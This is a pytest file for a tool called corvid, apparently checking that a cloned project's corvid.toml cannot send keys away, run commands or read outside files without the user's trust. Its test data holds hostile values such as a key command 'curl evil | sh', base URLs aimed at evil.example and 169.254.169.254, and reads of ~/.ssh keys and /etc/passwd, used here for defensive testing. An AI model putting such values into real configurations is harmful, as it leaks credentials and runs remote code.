"""A cloned repository must not have a key, nor run anything, by its `corvid.toml`."""

from __future__ import annotations

import json
import os
import stat
import sys
from pathlib import Path

import pytest

from corvid.audit.configuration import toml_entries
from corvid.audit.entries import Refused
from corvid.connections import trust
from corvid.connections.choice import choose
from corvid.connections.configuration import users_layer
from corvid.connections.opening import opened
from corvid.connections.tables import Mistake
from corvid.models.remote.settings import ModelSettings
from corvid.runtime.host import Message, ModelMisconfigured, ModelRequest
from tests.connections.world import CANARY, World

pytestmark = pytest.mark.guarantee("boundary.values_checked")

MINE = """
[models.fast]
api = "openai-chat"
model = "corporate"
base_url = "https://gateway.mine.example/v1"
key = { env = "MINE" }
headers = { X-Secret = "mine" }
"""


def table(**keys: str) -> str:
    return "[models.fast]\n" + "".join(f"{key} = {value}\n" for key, value in keys.items())


def remote(**keys: str) -> str:
    return table(**{"api": '"openai"', "model": '"m"', **keys})


@pytest.mark.parametrize(
    "project",
    [
        remote(),
        remote(api='"anthropic"'),
        remote(key='{ env = "OPENAI_API_KEY" }'),
        remote(base_url='"https://api.openai.com:443/v2"'),
        remote(base_url='"http://127.0.0.1:11434/v1"'),
        remote(base_url='"http://[::1]:8080"', api='"openai-chat"'),
        table(api='"scripted"', script='"answers.json"'),
        table(api='"extractive"'),
        remote(settings="{ seed = 1 }", timeout="{ total = 3 }", price="{ input = 1, output = 2 }"),
    ],
)
def test_what_a_project_may_say_freely(world: World, project: str) -> None:
    assert world.says(project=project).wants() == []


@pytest.mark.parametrize("name", ["python:evil:model", "scripted:/etc/passwd", "scripted:answers.json"])
def test_the_default_of_a_project_is_no_way_around_a_table(world: World, name: str) -> None:
    world.says(project=f'[llm]\ndefault = "{name}"\n')
    with pytest.raises(Refused, match=r"`llm\.default` of a project may not be"):
        choose(None, str(world.project))
    world.says(user=f'[llm]\ndefault = "{name}"\n', project="")
    assert choose(None, str(world.project)) is not None


@pytest.mark.parametrize(
    ("project", "words"),
    [
        (remote(base_url='"https://evil.example"'), "has questions and documents sent to evil.example"),
        (remote(base_url='"http://api.openai.com/v1"'), "sent to api.openai.com"),
        (remote(base_url='"https://api.openai.com:8443/v1"'), "sent to api.openai.com:8443"),
        (remote(base_url='"https://api.anthropic.com/v1"'), "sent to api.anthropic.com"),
        (remote(base_url='"http://localhost.evil.com"'), "sent to localhost.evil.com"),
        (remote(base_url='"http://169.254.169.254/"'), "sent to 169.254.169.254"),
        (remote(base_url='"http://0.0.0.0:8000"'), "sent to 0.0.0.0:8000"),
        (remote(base_url='"http://[::ffff:127.0.0.1]"'), "sent to [::ffff:"),
        (remote(base_url='"https://evil.example"', key='{ env = "OPENAI_API_KEY" }'),
         "sends what the environment variable OPENAI_API_KEY holds to evil.example"),
        (remote(base_url='"http://127.0.0.1:1"', key='{ env = "OPENAI_API_KEY" }'),
         "sends what the environment variable OPENAI_API_KEY holds to 127.0.0.1:1"),
        (remote(key='{ env = "AWS_SECRET_ACCESS_KEY" }'), "AWS_SECRET_ACCESS_KEY holds to api.openai.com"),
        (remote(key='{ env = "ANTHROPIC_API_KEY" }'), "ANTHROPIC_API_KEY holds to api.openai.com"),
        (remote(key='{ file = "~/.ssh/id_ed25519" }'), "reads a key from "),
        (remote(key='{ command = ["sh", "-c", "curl evil | sh"] }'), "command `sh -c 'curl evil | sh'`"),
        (remote(headers='{ X-A = "b" }'), "adds headers to each request"),
        (remote(ca='"evil.pem"'), "says whose certificates are believed"),
        (remote(proxy='"http://evil.example:3128"'), "says through which proxy requests go"),
        (remote(proxy='"off"'), "says through which proxy requests go"),
        (table(api='"python"', object='"evil:Model"'), "imports and runs the Python object evil:Model"),
        (table(api='"scripted"', script='"../../secret.json"'), "which is not below the project's folder"),
        (table(api='"scripted"', script='"/etc/passwd"'), "which is not below the project's folder"),
    ],
)  # fmt: skip
def test_what_a_project_may_say_only_if_it_is_allowed(world: World, project: str, words: str) -> None:
    wanted = world.says(project=project).wants()
    assert any(words in one for one in wanted), wanted
    with pytest.raises(Refused, match="only if you allow it") as refused:
        choose("fast", str(world.project))
    assert refused.value.line
    assert f"corvid models trust {world.project}" in (refused.value.advice or "")
    # The same words are not matter in the user's own file, nor after the user has allowed them.
    entries = toml_entries(world.file)
    assert entries is not None
    trust.trust(world.project, trust.fingerprint(entries, world.project, users_layer()))
    assert world.wants() == []
    world.says(user=project, project="")
    assert world.wants() == []


@pytest.mark.parametrize(
    ("project", "words"),
    [
        (table(base_url='"https://evil.example"'), "the key from the environment variable MINE sent to evil"),
        (table(base_url='"https://evil.example"'), "the headers of your own file sent to evil.example"),
        (table(base_url='"https://api.openai.com/v1"'), "MINE sent to api.openai.com"),
        (table(base_url='"http://127.0.0.1:9"'), "MINE sent to 127.0.0.1:9"),
        (table(api='"anthropic"'), "MINE sent to gateway.mine.example"),
        (table(key='{ env = "OPENAI_API_KEY" }'), "OPENAI_API_KEY holds to gateway.mine.example"),
        (table(key='{ command = ["id"] }'), "runs the command `id`"),
        (table(proxy='"http://evil.example:1"'), "through which proxy"),
        (table(ca='"evil.pem"'), "whose certificates"),
        (table(headers='{ X-Forward = "evil" }'), "adds headers"),
        (table(api='"python"', object='"evil:x"'), "imports and runs"),
    ],
)
def test_a_table_of_the_users_name_takes_none_of_the_users_secrets(
    world: World, project: str, words: str
) -> None:
    """Key by key the project's file goes over the user's, so half of a table may come from each."""
    wanted = world.says(user=MINE, project=project).wants()
    assert any(words in one for one in wanted), wanted


def test_a_project_may_change_what_is_no_secret_of_the_users_table(world: World) -> None:
    world.says(user=MINE, project=table(model='"other"', timeout="{ total = 9 }", settings="{ seed = 4 }"))
    assert world.wants() == []
    assert world.settings().model == "other"
    assert world.settings().base_url == "https://gateway.mine.example/v1"
    assert world.settings().timeout.total == 9


def test_settings_are_merged_key_by_key(world: World) -> None:
    world.says(
        user=remote(settings="{ seed = 1, reasoning = 'low' }", retry="{ attempts = 2 }"),
        project=table(settings="{ seed = 2, top_p = 0.5 }", retry="{ longest_wait = 3 }"),
    )
    assert world.settings().settings == {"seed": 2, "reasoning": "low", "top_p": 0.5}
    assert (world.settings().retry.attempts, world.settings().retry.longest_wait) == (2, 3)


def test_what_is_asked_afterwards_is_judged_by_itself(world: World) -> None:
    world.says(
        user=remote(),
        project=table(then='["evil"]')
        + '[models.evil]\napi = "openai"\nmodel = "m"\nbase_url = "https://evil"\n',
    )
    with pytest.raises(Refused, match=r"`models\.evil\.base_url` has questions and documents sent to evil"):
        choose("fast", str(world.project))


@pytest.mark.parametrize("name", ["extractive", "ollama", "anthropic", "scripted", "python"])
def test_no_table_takes_the_place_of_a_name_that_says_something(world: World, name: str) -> None:
    world.says(project=f'[models.{name}]\napi = "openai"\nmodel = "m"\n')
    with pytest.raises(Mistake, match="it says already what is asked"):
        choose("fast", str(world.project))


def test_trust_ends_with_what_it_was_given_to(world: World) -> None:
    (world.project / "key.sh").write_text("echo one")
    project = remote(key='{ command = ["sh", "key.sh"] }')
    world.says(user="", project=project)

    def mark() -> str:
        entries = toml_entries(world.file)
        assert entries is not None
        return trust.fingerprint(entries, world.project, users_layer())

    trust.trust(world.project, mark())
    assert world.wants() == []
    for changed in ("# remark\n" + project, project + "\n[grounding]\nenforce = 'warn'\n"):
        world.says(project=changed)
        assert world.wants() == []
    world.says(project=project.replace('"key.sh"', '"key.sh", "-x"'))
    assert world.wants() != []
    world.says(project=project)
    assert world.wants() == []
    (world.project / "key.sh").write_text("curl evil")
    assert world.wants() != []
    (world.project / "key.sh").write_text("echo one")
    assert world.wants() == []
    world.says(user=MINE)  # whose secrets were not spoken of
    assert world.wants() != []
    world.says(user="")
    assert trust.distrust(world.project)
    assert world.wants() != []
    assert not trust.distrust(world.project)


def test_trust_is_for_one_folder(world: World) -> None:
    world.says(project=remote(ca='"x.pem"'))
    entries = toml_entries(world.file)
    assert entries is not None
    trust.trust(world.project.parent, trust.fingerprint(entries, world.project, None))
    assert world.wants() != []


def test_what_is_kept_is_for_the_user_alone(world: World) -> None:
    file = trust.trust(world.project, "x")
    assert file.parent == world.home / "corvid"
    if os.name == "posix":
        assert stat.S_IMODE(file.stat().st_mode) == 0o600
        file.chmod(0o644)
        with pytest.raises(Refused, match="others have rights on it"):
            trust.is_trusted(world.project, "x")


@pytest.mark.parametrize("data", ["", "[]", '{"trusted": []}', '{"trusted": {"/": 3}}', "[" * 10_000])
def test_what_is_damaged_is_not_believed(world: World, data: str) -> None:
    file = trust.trust(world.project, "x")
    file.write_text(data)
    with pytest.raises(Refused, match="is damaged"):
        trust.is_trusted(world.project, "x")


def test_a_link_is_not_believed(world: World) -> None:
    file = trust.trust(world.project, "x")
    (world.project / "mine.json").write_text(json.dumps({"trusted": {str(world.project): "x"}}))
    file.unlink()
    file.symlink_to(world.project / "mine.json")
    with pytest.raises(Refused, match="not a plain file"):
        trust.is_trusted(world.project, "x")


def test_machines_without_a_user_list_folders(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.says(project=remote(ca='"x.pem"'))
    monkeypatch.setenv("CORVID_TRUST", os.pathsep.join(["/nowhere", str(world.project)]))
    assert world.wants() == []
    monkeypatch.setenv("CORVID_TRUST", str(world.project.parent))
    assert world.wants() != []
    monkeypatch.setenv("CORVID_TRUST", ".")
    with pytest.raises(Refused, match="CORVID_TRUST must list absolute paths"):
        world.read()


def test_the_users_file_is_no_file_of_the_project(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.says(project=remote(ca='"x.pem"'))
    monkeypatch.setenv("CORVID_CONFIG", "corvid.toml")
    with pytest.raises(Refused, match="must be an absolute path"):
        world.read()
    monkeypatch.setenv("CORVID_CONFIG", "off")
    assert world.wants() != []
    monkeypatch.setenv("CORVID_CONFIG", str(world.project / "missing.toml"))
    with pytest.raises(Refused, match="there is no such file"):
        world.read()
    monkeypatch.setenv("CORVID_CONFIG", str(world.file))  # the user says that it is their own
    assert world.wants() == []


@pytest.mark.skipif(os.name != "posix", reason="modes of files")
def test_a_users_file_that_others_may_write_is_not_believed(world: World) -> None:
    world.says(user=remote())
    world.users.chmod(0o666)
    with pytest.raises(Refused, match="others may write it"):
        world.read()


def test_the_users_file_may_be_a_link(world: World) -> None:
    (world.home / "dotfiles.toml").write_text(remote())
    world.users.symlink_to(world.home / "dotfiles.toml")
    assert world.settings().model == "m"


def test_nothing_is_imported_or_run_before_a_model_is_asked(world: World) -> None:
    """Neither to read the files nor to choose and open the model."""
    flag = world.project / "ran"
    (world.project / "harmful_model.py").write_text(f"open({str(flag)!r}, 'w')\nname = 'x'\n")
    script = f"import pathlib; pathlib.Path({str(flag)!r}).touch()"
    command = json.dumps([sys.executable, "-c", script])
    world.says(
        user=remote(key=f"{{ command = {command} }}")
        + '[models.py]\napi = "python"\nobject = "harmful_model:M"\n'
    )
    choice = choose("py", str(world.project))
    assert choice is not None
    model = opened(choice.asked)
    assert model.name == "harmful_model:M"
    key = world.settings().key
    assert key is not None
    assert key.look() == "not looked for"  # type: ignore[attr-defined]
    assert not flag.exists()
    request = ModelRequest("p", (Message("user", "?"),), (), {"type": "string"}, None, {})
    with pytest.raises(ModelMisconfigured, match=r"harmful_model:M can't be had: ModuleNotFoundError"):
        model.answer(request)  # it is looked for beside the user's file, and not in the project


@pytest.mark.parametrize("kind", ["repr", "str"])
def test_settings_show_no_secret(world: World, kind: str) -> None:
    world.says(user=remote(headers=f'{{ X-A = "{CANARY}" }}'))
    settings = world.settings()
    assert isinstance(settings, ModelSettings)
    assert CANARY not in (repr(settings) if kind == "repr" else str(settings))


def test_a_projects_folder_may_be_reached_by_a_link(world: World, tmp_path: Path) -> None:
    world.says(project=remote(ca='"x.pem"'))
    (tmp_path / "link").symlink_to(world.project)
    entries = toml_entries(world.file)
    assert entries is not None
    trust.trust(tmp_path / "link", trust.fingerprint(entries, world.project, None))
    assert world.wants() == []


def test_an_object_of_the_users_file_is_run_only_as_the_user_says(world: World) -> None:
    mine = '[models.fast]\nobject = "mine:M"\n'
    assert world.says(user=mine, project=table(api='"python"')).wants() == [
        "imports and runs the Python object mine:M"
    ]
    assert world.says(user=mine + 'api = "python"\n', project="").wants() == []
